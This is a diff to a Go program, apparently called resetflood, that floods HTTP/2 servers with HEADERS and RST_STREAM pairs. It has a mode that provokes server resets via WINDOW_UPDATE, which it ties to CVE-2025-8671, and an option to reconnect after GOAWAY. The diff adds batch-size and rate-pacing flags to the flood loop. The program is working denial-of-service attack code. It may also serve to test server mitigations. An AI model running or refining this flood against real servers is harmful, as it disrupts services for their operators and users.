@@ -37,6 +37,8 @@ func main() {
 	maxPairs := flag.Int("max-pairs", 20_000_000, "at most this many HEADERS+RST_STREAM pairs in all")
 	path := flag.String("path", "/", "the request path of the HEADERS frames")
 	madeYouReset := flag.Bool("made-you-reset", false, "follow each HEADERS with a WINDOW_UPDATE of 0 on its stream, which the server answers with RST_STREAM (CVE-2025-8671), instead of an RST_STREAM")
+	batch := flag.Int("batch", 100, "pairs per write: 100 is ~4 KiB; 1 paces the flood by the client's system calls")
+	rate := flag.Float64("rate", 0, "pairs per second at most (0: as fast as the connection takes them)")
 	reconnect := flag.Bool("reconnect", false, "open a new connection as soon as the server sends GOAWAY or closes one, until -duration")
 	flag.Parse()
 
@@ -51,7 +53,7 @@ func main() {
 	var total int
 	var conns []result
 	for total < *maxPairs && time.Now().Before(deadline) {
-		r, err := flood(*addr, *path, *madeYouReset, deadline, *maxPairs-total, !*reconnect)
+		r, err := flood(*addr, *path, *madeYouReset, max(*batch, 1), *rate, deadline, *maxPairs-total, !*reconnect)
 		if err != nil {
 			fmt.Fprintln(os.Stderr, "resetflood:", err)
 			os.Exit(1)
@@ -130,15 +132,11 @@ func (r result) String() string {
 	return b.String()
 }
 
-// batchPairs is how many pairs one Write carries: ~4 KiB, so that the
-// flood is limited by the server, not by system calls.
-const batchPairs = 100
-
 // flood floods one connection until deadline, maxPairs, a GOAWAY or the
 // connection's end; then, if waitClose, it waits up to two seconds for the
 // server to close the connection, else it closes it at once, as a flooder
 // that comes back would.
-func flood(addr, path string, madeYouReset bool, deadline time.Time, maxPairs int, waitClose bool) (result, error) {
+func flood(addr, path string, madeYouReset bool, batch int, rate float64, deadline time.Time, maxPairs int, waitClose bool) (result, error) {
 	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
 	if err != nil {
 		return result{}, err
@@ -189,7 +187,7 @@ func flood(addr, path string, madeYouReset bool, deadline time.Time, maxPairs in
 flood:
 	for r.pairs < maxPairs && time.Now().Before(deadline) {
 		buf.Reset()
-		n := min(batchPairs, maxPairs-r.pairs)
+		n := min(batch, maxPairs-r.pairs)
 		for range n {
 			block.Reset()
 			for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", addr}, {":path", path}} {
@@ -204,6 +202,9 @@ flood:
 				fr.WriteRSTStream(id, http2.ErrCodeCancel)
 			}
 			id += 2
+		}
+		if rate > 0 { // pace: the pairs written so far are due by now
+			time.Sleep(time.Until(start.Add(time.Duration(float64(r.pairs) / rate * float64(time.Second)))))
 		}
 		_, err := c.Write(buf.Bytes())
 		if err == nil {
